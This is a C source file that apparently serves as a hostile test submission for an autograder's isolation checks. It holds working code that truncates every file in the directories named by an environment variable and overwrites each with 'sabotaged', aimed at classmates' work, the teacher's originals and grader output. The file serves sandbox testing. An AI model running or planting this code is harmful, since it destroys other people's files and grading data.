/* Hostile submission: overwrites every file of the directories named by
 * HOSTILE_TARGETS (':'-separated: the class, the teacher's originals) and
 * its own neighbours in the grader's output directory. Fails nothing
 * itself: what it damaged, the test finds. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void spoil_dir(const char *dir)
{
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        int fd = open(path, O_WRONLY | O_TRUNC);
        if (fd >= 0) {
            if (write(fd, "sabotaged\n", 10) < 0)
                perror(path);
            close(fd);
        }
    }
    closedir(d);
}

int main(void)
{
    const char *targets = getenv("HOSTILE_TARGETS");
    char list[8192];
    snprintf(list, sizeof list, "%s", targets ? targets : "");
    for (char *dir = strtok(list, ":"); dir; dir = strtok(NULL, ":"))
        spoil_dir(dir);
    return 0;
}
